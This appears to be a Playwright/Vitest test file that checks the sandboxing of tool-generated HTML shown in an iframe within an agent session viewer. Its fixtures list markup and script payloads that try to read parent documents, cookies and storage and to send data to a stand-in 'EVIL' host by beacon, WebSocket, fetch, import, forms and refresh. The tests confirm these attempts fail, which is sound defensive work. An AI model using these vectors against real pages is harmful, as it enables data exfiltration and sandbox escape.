/** HTML that a tool has written, shown as a page: it is seen, and it can do nothing else. */
import { createServer, type Server } from 'node:http'
import type { FrameLocator, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { Script } from '../../../packages/core/test/view/script.ts'
import { ended, eventually, setUpProduct } from './product.ts'
import { writeSessions } from './written-session.ts'

/** A server elsewhere, which must never hear of anything. */
let elsewhere: Server
const heard: string[] = []
beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*').end('<p>elsewhere</p>')
  })
  await new Promise<void>(done => elsewhere.listen(0, '127.0.0.1', done))
})
afterAll(() => elsewhere.close())

const address = (): string => {
  const at = elsewhere.address()
  return `http://127.0.0.1:${typeof at === 'object' && at ? at.port : 0}`
}

/** Every way out that needs no script. */
const MARKUP = `<h1>Report</h1>
<link rel="stylesheet" href="EVIL/link.css"><link rel="preload" as="image" href="EVIL/preload.png">
<link rel="prefetch" href="EVIL/prefetch"><link rel="icon" href="EVIL/icon.png"><link rel="manifest" href="EVIL/manifest">
<style>@import "EVIL/import.css"; h1 { color: rgb(1, 2, 3); background: url(EVIL/background.png) }
@font-face { font-family: x; src: url(EVIL/font.woff) } body { font-family: x }</style>
<img src="EVIL/img.png" srcset="EVIL/srcset.png 2x"><picture><source srcset="EVIL/source.png"><img></picture>
<video src="EVIL/video.mp4" poster="EVIL/poster.png" autoplay></video><audio src="EVIL/audio.mp3" autoplay></audio>
<object data="EVIL/object"></object><embed src="EVIL/embed"><iframe src="EVIL/frame"></iframe>
<iframe srcdoc="<img src='EVIL/srcdoc.png'>"></iframe><script src="EVIL/script.js"></script>
<svg><image href="EVIL/svg.png"/><use href="EVIL/use.svg#x"/></svg><input type="image" src="EVIL/input.png">
<base href="EVIL/"><img src="relative.png"><body background="EVIL/body.png">
<form id="form" action="EVIL/form" target="_top"><button>send</button></form>
<a id="out" href="EVIL/anchor" ping="EVIL/ping">out</a><a id="top" href="EVIL/top" target="_top">top</a>
<a id="api" href="/api/sessions">api</a>`

/** Every way out that needs one; each says what came of it. */
const SCRIPT = `<p id="said"></p><script>
const said = [];
const say = (name, value) => { said.push(name + '=' + value); document.getElementById('said').textContent = said.join(' ') };
const attempt = (name, act) => { try { say(name, act()) } catch (error) { say(name, 'refused') } };
attempt('parent', () => parent.document.title);
attempt('top', () => top.document.title);
attempt('host', () => top.location.href);
attempt('cookie', () => document.cookie);
attempt('setcookie', () => (document.cookie = 'a=b'));
attempt('storage', () => localStorage.length);
attempt('session', () => sessionStorage.length);
attempt('database', () => indexedDB.open('x') && 'open');
attempt('worker', () => navigator.serviceWorker.controller);
attempt('opened', () => String(window.open('EVIL/open')));
attempt('leave', () => { top.location = 'EVIL/leave'; return 'done' });
attempt('modal', () => { alert('x'); return confirm('x') });
attempt('socket', () => { new WebSocket('EVIL/socket'.replace('http', 'ws')); return 'made' });
attempt('source', () => { new EventSource('EVIL/source-events'); return 'made' });
attempt('beacon', () => { navigator.sendBeacon('EVIL/beacon', 'x'); return 'made' });
attempt('image', () => { new Image().src = 'EVIL/image.png'; return 'made' });
attempt('import', () => { import('EVIL/module.js').catch(() => {}); return 'made' });
attempt('form', () => { const f = document.createElement('form'); f.action = 'EVIL/submit'; document.body.append(f); f.submit(); return 'made' });
attempt('eval', () => eval('1'));
say('origin', self.origin);
for (const path of ['EVIL/fetch', '/api/sessions'])
  fetch(path, { mode: 'no-cors' }).then(() => say('fetch', 'answered'), () => say('fetch', 'refused'));
parent.postMessage({ type: 'tool', theme: 'dark' }, '*');
attempt('mark', () => (parent.pwned = 1));
window.pwned = 1;
addEventListener('click', () => { location.href = 'EVIL/location' });
</script>`

const REFRESH = '<!doctype html><meta http-equiv="refresh" content="0;url=EVIL/refresh"><p>refreshing</p>'
const PAGES: Readonly<Record<string, string>> = {
  still: `<!doctype html><html>${MARKUP}<script>document.body.textContent = 'run'</script><b onclick="document.body.textContent='run'" id="b">b</b><a id="js" href="javascript:document.body.textContent='run'">js</a></html>`,
  live: `<!doctype html><html><body>${SCRIPT}</body></html>`,
  refresh: REFRESH,
  resource: 'Here is the chart.\n[ui://charts/one]\n<div id="chart">A chart</div>',
  text: 'no page, though it says <html> and [file:///a.txt]\nnothing',
}

const { open, product } = setUpProduct({
  prepare: async data => {
    const log = (output: string) => {
      const script = new Script().created().ask('show it').turn('m')
      script.call('m', 0, 'c1', { name: 'report', input: {} })
      script.add('tool.started', { call_id: 'c1', attempt: 1 })
      return script.done('c1', output).endTurn('m').completeRun().records
    }
    const fill = (text: string) => text.replaceAll('EVIL', address())
    await writeSessions(
      data,
      Object.fromEntries(Object.entries(PAGES).map(([id, output]) => [id, log(fill(output))])),
    )
  },
})

/** The call's card, opened. */
async function opened(id: string) {
  const { page, problems } = await open(`/sessions/${id}`)
  await ended(page)
  await page.locator('.expand-all').click()
  return { page, problems }
}

async function shown(id: string, scripts = false): Promise<{ page: Page; frame: FrameLocator }> {
  const { page } = await opened(id)
  await page.locator('.show-page').click()
  const frame = page.frameLocator('.html-frame')
  if (scripts) await page.locator('.html-scripts').click()
  return { page, frame }
}

/** Nothing was heard elsewhere, and the app is where it was and as it was. */
async function expectNoWayOut(page: Page, id: string): Promise<void> {
  // Elsewhere listens: it hears what is said from here.
  await fetch(`${address()}/control`)
  expect(heard.splice(0)).toEqual(['/control'])
  expect(page.url()).toBe(`${product().url}/sessions/${id}`)
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(page.context().pages()).toHaveLength(1)
}

/** The browser has refused to let the frame go where its page sent it. */
const stays = (page: Page) =>
  eventually(() => page.frames().at(-1)?.url()).toBe('chrome-error://chromewebdata/')

describe('a page of a tool', () => {
  test('is text until the user wants to see it, and other outputs are never offered as one', async () => {
    const { page } = await opened('still')
    expect(await page.locator('iframe').count()).toBe(0)
    expect(await page.locator('[data-tw-part="tool-call"]').innerText()).toContain('<h1>Report</h1>')
    expect(await page.locator('.show-page').count()).toBe(1)
    await page.context().close()
    const other = await opened('text')
    expect(await other.page.locator('.show-page').count()).toBe(0)
    await other.page.context().close()
  })

  test('is drawn with its styles, runs nothing and loads nothing', async () => {
    const { page, frame } = await shown('still')
    const heading = frame.locator('h1')
    await heading.waitFor()
    expect(await heading.evaluate(element => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)')
    await eventually(() => frame.locator('html').evaluate(() => document.readyState)).toBe('complete')
    for (const way of ['#b', '#js', '#top', '#form button']) await frame.locator(way).dispatchEvent('click')
    expect(await heading.innerText()).toBe('Report')
    await expectNoWayOut(page, 'still')
    await page.context().close()
  })

  test.each(['#out', '#api'])('has links that lead nowhere: %s', async link => {
    const { page, frame } = await shown('still')
    await frame.locator(link).dispatchEvent('click')
    await stays(page)
    await expectNoWayOut(page, 'still')
    await page.context().close()
  })

  test('cannot send its frame elsewhere by itself', async () => {
    const { page } = await shown('refresh')
    await stays(page)
    await expectNoWayOut(page, 'refresh')
    await page.context().close()
  })

  test('may run its scripts after the user’s consent, and they reach neither the app nor the network', async () => {
    const { page, frame } = await shown('live', true)
    const said = frame.locator('#said')
    await eventually(() => said.innerText()).toMatch(/fetch=.*fetch=/)
    const words = (await said.innerText()).split(' ')
    expect(words).toContain('origin=null')
    const refused = ['parent', 'top', 'host', 'cookie', 'setcookie', 'storage', 'session', 'database']
    for (const name of [...refused, 'leave', 'mark', 'eval', 'fetch'])
      expect(words).toContain(`${name}=refused`)
    expect(words).toContain('opened=null')
    expect(words).not.toContain('fetch=answered')
    // At last it sends its own frame away.
    await said.dispatchEvent('click')
    await stays(page)
    await expectNoWayOut(page, 'live')
    expect(await page.evaluate(() => document.documentElement.dataset['twTheme'])).toBe('system')
    await page.context().close()
  })

  test('is also found in a resource that an MCP server made to be shown', async () => {
    const { page, frame } = await shown('resource')
    await eventually(() => frame.locator('#chart').innerText()).toBe('A chart')
    expect(await frame.locator('body').innerText()).not.toContain('ui://')
    await page.keyboard.press('Escape')
    await eventually(() => page.locator('iframe').count()).toBe(0)
    await page.context().close()
  })

  test('is not shown at the address of its frame', async () => {
    const { page } = await open('/frame?scripts=1')
    const before = await page.content()
    await page.evaluate(() => window.postMessage('<p id="x">written</p>', '*'))
    expect(await page.content()).toBe(before)
    expect(await page.evaluate(() => self.origin)).toBe('null')
    await page.context().close()
  })
})
